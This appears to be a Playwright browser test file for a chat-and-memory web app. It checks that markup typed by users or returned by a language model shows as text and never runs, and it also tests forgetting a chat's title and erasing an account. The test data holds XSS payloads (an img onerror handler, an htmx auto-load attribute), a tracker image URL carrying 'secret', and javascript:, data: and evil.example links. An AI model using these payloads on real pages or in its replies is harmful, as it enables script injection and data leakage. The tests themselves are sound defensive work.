"""Words that are meant to be more than words: wherever they show, they are only read."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Window
from tests.browser.language_model import LanguageModel
from tests.server import PASSWORD, Sidenote, new_name

pytestmark = pytest.mark.browser

MARKUP = "<img src=x onerror=\"document.title='broken'\"><b hx-get=/api/me hx-trigger=load>bold</b>"


def add_memory(page: Page, content: str) -> None:
    """Type a memory into the memory page."""
    page.get_by_role("button", name="Add a memory").click()
    page.get_by_label("Something I should remember").fill(content)
    page.locator(".adding").get_by_role("button", name="Remember").click()
    page.locator("[data-row]").first.wait_for()


def test_markup_is_shown_and_never_obeyed(sidenote: Sidenote, open_window: Callable[..., Window]) -> None:
    """In a name, a title, a message, a memory, a rule and the activity; the page makes nothing of it."""
    window = open_window(sidenote)
    page = window.sign_up(f"{MARKUP} {new_name()}"[:100])
    window.say(f"Hello {MARKUP}")
    expect(page.locator(".said p").last).to_contain_text("<img src=x onerror=")
    page.goto(window.base + "/memory")
    add_memory(page, f"Likes {MARKUP}")
    expect(page.locator("[data-row] .what")).to_contain_text("<img src=x onerror=")
    page.get_by_label("What about").fill(f"my {MARKUP}")
    page.get_by_role("button", name="Add the rule").click()
    expect(page.locator(".rules .tag")).to_contain_text("<img src=x onerror=")
    for path in ("/memory", "/activity", "/settings", "/welcome/choice"):
        window.open(path)
        expect(page.locator("body")).to_contain_text("<img")
        assert page.locator("main img, main [hx-get='/api/me'], nav img").count() == 0
        assert page.title() != "broken"


def test_a_models_markup_is_shown_and_never_obeyed(
    modelled_sidenote: Sidenote, language_model: LanguageModel, open_window: Callable[..., Window]
) -> None:
    """No image is fetched, no script runs, and only links to the web are links, with their host beside them."""
    language_model.words = [
        f"{MARKUP}\n\n![chart](https://tracker.example/?q=secret)\n\n",
        "[one](javascript:alert(1)) [two](data:text/html,x) [three](/api/me) [four](https://evil.example/x)",
        " The end.",
    ]
    language_model.go.set()
    window = open_window(modelled_sidenote)
    page = window.sign_up(new_name())
    window.say("Tell me something.")
    reply = page.locator(".reply").last
    expect(reply).to_contain_text("The end.")
    for _ in range(2):
        assert reply.locator("img, b[hx-get], script").count() == 0
        links = reply.locator("a")
        assert {str(link.get_attribute("href")).partition("?")[0] for link in links.all()} <= {
            "https://evil.example/x",
            "https://tracker.example/",
        }
        expect(reply).to_contain_text("(evil.example)")
        page.reload()


def test_a_chat_whose_name_was_forgotten_loses_it_at_once(
    sidenote: Sidenote, open_window: Callable[..., Window]
) -> None:
    """The list of chats does not go on showing forgotten words, and has them again after an undo."""
    window = open_window(sidenote)
    page = window.sign_up(new_name())
    window.say("I always prefer aisle seats on flights.")
    page.goto(window.base + "/memory")
    chats = page.locator("#chats")
    expect(chats).to_contain_text("aisle seats")
    page.get_by_role("button", name="Forget: Always prefers aisle seats on flights").click()
    expect(chats).not_to_contain_text("aisle seats")
    expect(chats).to_contain_text("Untitled chat")
    page.locator(".toast").get_by_role("button", name="Undo").click()
    expect(chats).to_contain_text("aisle seats")


def test_the_password_that_erases_an_account_is_asked_for(
    sidenote: Sidenote, open_window: Callable[..., Window]
) -> None:
    """The right one erases everything and leads to the door."""
    window = open_window(sidenote)
    page = window.sign_up(new_name())
    page.goto(window.base + "/settings")
    page.get_by_text("Erase my account").click()
    page.get_by_label("Your password").fill(PASSWORD)
    page.get_by_role("button", name="Erase everything").click()
    page.wait_for_url(window.base + "/login")
